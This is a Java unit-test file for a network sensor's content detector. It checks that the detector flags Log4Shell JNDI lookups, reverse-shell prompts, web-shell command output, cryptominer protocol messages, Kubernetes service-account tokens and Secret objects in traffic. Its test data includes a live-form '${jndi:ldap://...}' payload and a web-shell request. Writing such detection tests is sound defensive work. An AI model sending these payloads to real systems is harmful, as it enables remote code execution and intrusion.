/*
 * Copyright 2026 the Podtap authors
 * SPDX-License-Identifier: Apache-2.0
 */
package io.podtap.sensor.notice.content;

import static org.assertj.core.api.Assertions.assertThat;

import io.podtap.sensor.dispatch.StreamScript;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Payload through the dispatcher with all its parsers, records of content.log out. */
class ContentWatchTest {

  private static final String OK = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
  private static final String LOOKUP = "${jndi:ldap://10.0.0.9:1389/a}";

  private static StreamScript tcp(int port) {
    return StreamScript.tcp(port, 10_000).watched();
  }

  private static void assertOne(StreamScript script, String kind, String fromOriginator) {
    List<Map<String, String>> rows = script.rows("content");
    assertThat(rows).hasSize(1);
    assertThat(rows.getFirst())
        .containsEntry("kind", kind)
        .containsEntry("is_orig", fromOriginator);
  }

  @Test
  void findsALookupInAnyHeaderOfALaterRequest() {
    StreamScript script = tcp(80);
    for (int i = 0; i < 100; i++) {
      script.client("GET / HTTP/1.1\r\nHost: a\r\n\r\n").server(OK);
    }
    script.client("GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: " + LOOKUP + "\r\n\r\n").server(OK);

    assertOne(script, "jndi", "T");
  }

  /** The lookup in pieces of every length. */
  @ParameterizedTest
  @ValueSource(ints = {1, 2, 3, 7, 20})
  void findsALookupOverSegments(int pieceBytes) {
    StreamScript script = StreamScript.tcp(80, pieceBytes).watched();
    script.client("GET / HTTP/1.1\r\nX-Api: " + LOOKUP + "\r\nHost: a\r\n\r\n");

    List<Map<String, String>> rows = script.rows("content");
    assertThat(rows).isNotEmpty();
    assertThat(rows.getLast().get("text")).startsWith("jndi:");
  }

  @Test
  void findsALookupInABodyAndInADatagram() {
    String body = "{\"user\":\"" + LOOKUP + "\"}";
    assertOne(
        tcp(80)
            .client("POST / HTTP/1.1\r\nContent-Length: " + body.length() + "\r\n\r\n")
            .client(body),
        "jndi",
        "T");
    assertOne(StreamScript.udp(514).watched().client("<13>app: " + LOOKUP), "jndi", "T");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "sh-5.1$ ",
        "bash-5.2# ",
        "/bin/sh: 0: can't access tty; job control turned off\n$ ",
        "bash: cannot set terminal process group (1): Inappropriate ioctl for device\n",
        "bash: no job control in this shell\nbash-5.1$ ",
        "uid=0(root) gid=0(root) groups=0(root)\n",
        "uid=1000 gid=1000 groups=1000\n",
        "root@web-7d4b:/app# ",
        "Microsoft Windows [Version 10.0.17763]\r\n",
        "PS C:\\inetpub> ",
        "# ",
      })
  void recognizesAShellFromEitherEnd(String text) {
    assertOne(tcp(4_444).server("id\n").client(text), "shell", "T");
    assertOne(tcp(4_444).client("id\n").server(text), "shell", "F");
  }

  @ParameterizedTest
  @ValueSource(strings = {"# comment\nkey: value\n", "price: 5$ ", "a@b.example: hi\n", "$ 5"})
  void takesOtherTextForNoShell(String text) {
    assertThat(tcp(4_444).client(text).server(text).rows("content")).isEmpty();
  }

  @Test
  void recognizesTheOutputOfACommandInAPage() {
    StreamScript script =
        tcp(80)
            .client("GET /up/x.php?c=id HTTP/1.1\r\nHost: a\r\n\r\n")
            .server(
                """
                HTTP/1.1 200 OK\r
                Content-Length: 54\r
                \r
                <pre>uid=33(www-data) gid=33(www-data) groups=33</pre>\
                """);

    assertOne(script, "command_output", "F");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer/2.5\"]}\n",
        "{\"id\": 2, \"method\": \"mining.authorize\", \"params\": [\"w.1\", \"x\"]}\n",
        "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"4A\",\"pass\":\"x\",\"agent\":\"XMRig/6.21\",\"algo\":[\"rx/0\"]}}\n",
        "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"eth_submitLogin\",\"params\":[\"0x1\"]}\n",
        "{\"id\":3,\"method\":\"submit\",\"params\":{\"id\":\"1\",\"job_id\":\"2\",\"nonce\":\"ff\"}}",
      })
  void recognizesMining(String text) {
    assertOne(tcp(3_333).client(text), "mining", "T");
    String request = "POST /json_rpc HTTP/1.1\r\nContent-Length: " + text.length() + "\r\n\r\n";
    assertOne(tcp(8_332).client(request + text), "mining", "T");
  }

  @Test
  void takesOtherCallsForNoMining() {
    assertThat(
            tcp(8_545)
                .client(
                    "{\"id\":1,\"method\":\"login\",\"params\":{\"user\":\"a\",\"pass\":\"b\"}}")
                .client("{\"id\":1,\"method\":\"submit\",\"params\":{\"form\":1}}")
                .rows("content"))
        .isEmpty();
  }

  private static String token(String claims) {
    Base64.Encoder encoder = Base64.getUrlEncoder().withoutPadding();
    return encoder.encodeToString(
            "{\"alg\":\"RS256\",\"kid\":\"x\"}".getBytes(StandardCharsets.UTF_8))
        + '.'
        + encoder.encodeToString(claims.getBytes(StandardCharsets.UTF_8))
        + ".c2lnbmF0dXJl";
  }

  @Test
  void recognizesTheTokenOfAServiceAccountAndNoOther() {
    String own = token("{\"iss\":\"x\",\"sub\":\"system:serviceaccount:shop:cart\"}");
    StreamScript script =
        tcp(80).client("GET /api HTTP/1.1\r\nAuthorization: Bearer " + own + "\r\n\r\n");
    List<Map<String, String>> rows = script.rows("content");
    assertThat(rows).hasSize(1);
    assertThat(rows.getFirst())
        .containsEntry("kind", "token")
        .containsEntry("text", "system:serviceaccount:shop:cart");

    String other = token("{\"iss\":\"https://login.example\",\"sub\":\"alice\"}");
    assertThat(
            tcp(80)
                .client("GET /api HTTP/1.1\r\nAuthorization: Bearer " + other + "\r\n\r\n")
                .rows("content"))
        .isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "{\"kind\":\"Secret\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"db\"}}|Secret db",
        "{\"kind\": \"SecretList\", \"items\": []}|SecretList",
      })
  void recognizesASecret(String text, String shown) {
    StreamScript script =
        tcp(8_001)
            .client("GET /api/v1/namespaces/a/secrets/db HTTP/1.1\r\n\r\n")
            .server("HTTP/1.1 200 OK\r\nContent-Length: " + text.length() + "\r\n\r\n" + text);
    List<Map<String, String>> rows = script.rows("content");

    assertThat(rows).hasSize(1);
    assertThat(rows.getFirst()).containsEntry("kind", "secret").containsEntry("text", shown);
  }

  @Test
  void recognizesASecretInYamlAndInBinary() {
    assertOne(
        tcp(9_999).server("apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n"), "secret", "F");
    assertOne(tcp(9_999).server("k8s\0\n\f\n\2v1\22\6Secret\22"), "secret", "F");
  }

  @Test
  void leavesOtherKindsAlone() {
    assertThat(
            tcp(8_001)
                .client("GET / HTTP/1.1\r\n\r\n")
                .server(
                    "HTTP/1.1 200 OK\r\nContent-Length: 60\r\n\r\n"
                        + "{\"kind\":\"Pod\",\"note\":\"Secret sauce; kind: SecretStore      \"}")
                .rows("content"))
        .isEmpty();
  }
}
